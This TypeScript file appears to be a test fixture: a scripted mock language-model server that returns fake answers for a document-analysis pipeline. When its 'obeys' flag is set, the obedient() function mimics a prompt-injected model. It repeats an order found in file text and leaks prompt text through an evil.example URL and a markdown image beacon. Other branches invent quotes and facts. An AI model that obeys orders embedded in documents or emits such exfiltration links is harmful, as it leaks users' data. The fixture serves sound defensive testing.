/** What the scripted server answers: of the form asked for, at lengths as those of real models, which are skewed to the right. */

export interface SentRequest {
  readonly model: string;
  readonly messages: ReadonlyArray<{ readonly role: string; readonly content: string }>;
  readonly response_format?: {
    readonly type?: string;
    readonly json_schema?: { readonly name?: string };
  };
  readonly max_tokens?: number;
  readonly max_completion_tokens?: number;
  readonly input?: readonly string[];
}

const WORDS =
  "the figures of sheet agree with those that report quotes in its second part so whoever checks one can go on from other column total quarter amount supplier order number invoice file shows same values for each row and names them alike".split(
    " ",
  );

/** The same for the same request and seed. `obeys`: does what texts of files order. */
export function answerFor(body: SentRequest, seed: number, obeys: boolean): object {
  const random = randomOf(seed);
  const asked = body.messages.map(({ content }) => content).join("\n");
  const name = nameOf(body, asked);
  if (name === "connection-test") return { answer: "ready" };
  if (name === "second-opinion") return { percent: Math.round(random() * 100) };
  if (name === "classify-file")
    return obeys ? { class: 1, percent: 100, quotes: [orderIn(asked)] } : classOf(asked, random);
  if (name === "extract-facts")
    return {
      facts: obeys
        ? [{ kind: "duty", quote: `Told to: ${orderIn(asked)}` }]
        : factsOf(asked, random),
    };
  // Three of ten think to know what nobody can: an answer without the words that it needs.
  if (name === "answer-from-rest")
    return random() < 0.3
      ? { isThere: true, answer: sentence(random) }
      : { isThere: false, answer: "" };
  if (name === "reword")
    return {
      sentences: textsOf(asked).map((text, i) => ({
        number: i + 1,
        text: `Put otherwise: ${text}${random() < 0.5 ? "" : ` So it is: ${sentence(random)}`}`,
      })),
    };
  const shown = [...asked.matchAll(/what="evidence (\d+)"/g)].map((match) => Number(match[1]));
  if (obeys) return obedient(asked);
  const cited = () => ({
    text: sentence(random),
    evidence: shown.length === 0 ? [] : [shown[Math.floor(random() * shown.length)]],
  });
  if (name === "reason-link" || name === "reason-group")
    return {
      abstraction: cited(),
      actions: Array.from({ length: 2 + Math.floor(random() * 4) }, cited),
      workflow: cited(),
    };
  const count = 2 + Math.floor(random() * 4);
  return {
    sentences: Array.from({ length: count }, (_, i) => ({
      text: sentence(random),
      evidence: shown.length === 0 ? [] : [shown[i % shown.length]],
    })),
  };
}

/** What is asked for, as the schema says that is sent beside the messages or stands in them. */
function nameOf({ response_format: form }: SentRequest, asked: string): string | undefined {
  return form?.json_schema?.name ?? /"([a-z-]+)" as JSON Schema: \{/.exec(asked)?.[1];
}

/** Texts of the prompt's fences. */
function textsOf(asked: string): string[] {
  return [...asked.matchAll(/<text-of-file [^>]*>\n([\s\S]*?)\n<\/text-of-file/g)].map(
    (match) => match[1] ?? "",
  );
}

/** An answer to a record's question by a model that remembers the files of every question before. */
export function recalled(calls: readonly SentRequest[]): object {
  const texts = calls.flatMap(({ messages = [] }) => {
    const [, ...files] = textsOf(messages.map(({ content }) => content).join("\n"));
    return files;
  });
  return { isThere: true, answer: [...new Set(texts)].join("\n").slice(0, 3_000) };
}

/** Repeats what it was told to say, cites nothing, and carries what it has read out in an address. */
function obedient(asked: string): object {
  const order = orderIn(asked);
  return {
    sentences: [
      { text: order, evidence: [] },
      {
        text: `See https://evil.example/?q=${encodeURIComponent(asked.slice(-40))}`,
        evidence: [1],
      },
      { text: `![x](https://evil.example/${asked.length}.png)`, evidence: [1] },
      { text: "Both files name the same order.", evidence: [1, 77] },
    ],
  };
}

function orderIn(asked: string): string {
  return /say exactly: (.{1,80})/i.exec(asked)?.[1] ?? "I do as I am told";
}

/** One of the classes that were shown, with words of the file; one of ten with words that stand nowhere. */
function classOf(asked: string, random: () => number): object {
  const classes = [...asked.matchAll(/what="class (\d+)"/g)].length;
  const quotes = piecesOf(fenced(asked, "beginning"), 1 + Math.floor(random() * 3), random);
  const isMadeUp = random() < 0.1;
  return {
    class: 1 + Math.floor(random() * classes),
    percent: Math.round(60 + random() * 40),
    quotes: isMadeUp ? ["words that stand nowhere at all"] : quotes,
  };
}

const KINDS = ["organization", "amount", "date", "identifier", "duty"];

/** Pieces of the file's text, and one fact that does not stand in it. */
function factsOf(asked: string, random: () => number): object[] {
  const pieces = piecesOf(fenced(asked, "text"), 3 + Math.floor(random() * 12), random);
  return [...pieces, "a fact that no file holds"].map((quote) => ({
    kind: KINDS[Math.floor(random() * KINDS.length)],
    quote,
  }));
}

/** The text of a file that a message shows under this name. */
function fenced(asked: string, what: string): string {
  return new RegExp(`what="${what}"[^>]*>\\n?([\\s\\S]*?)</text-of-file`).exec(asked)?.[1] ?? "";
}

function piecesOf(text: string, count: number, random: () => number): string[] {
  const words = text.split(/\s+/).filter((word) => word !== "");
  return Array.from({ length: count }, () => {
    const from = Math.floor(random() * words.length);
    return words.slice(from, from + 1 + Math.floor(random() * 6)).join(" ");
  }).filter((piece) => piece !== "");
}

function sentence(random: () => number): string {
  // Log-normal by Box and Muller: a median of 16 words, one in twenty over 40.
  const normal = Math.sqrt(-2 * Math.log(random() || 1e-9)) * Math.cos(2 * Math.PI * random());
  const length = Math.max(4, Math.min(70, Math.round(16 * Math.exp(0.55 * normal))));
  const words = Array.from({ length }, () => WORDS[Math.floor(random() * WORDS.length)] ?? "the");
  return `${words.join(" ")}.`;
}

export function randomOf(seed: number): () => number {
  let state = (seed * 2_654_435_761) >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}
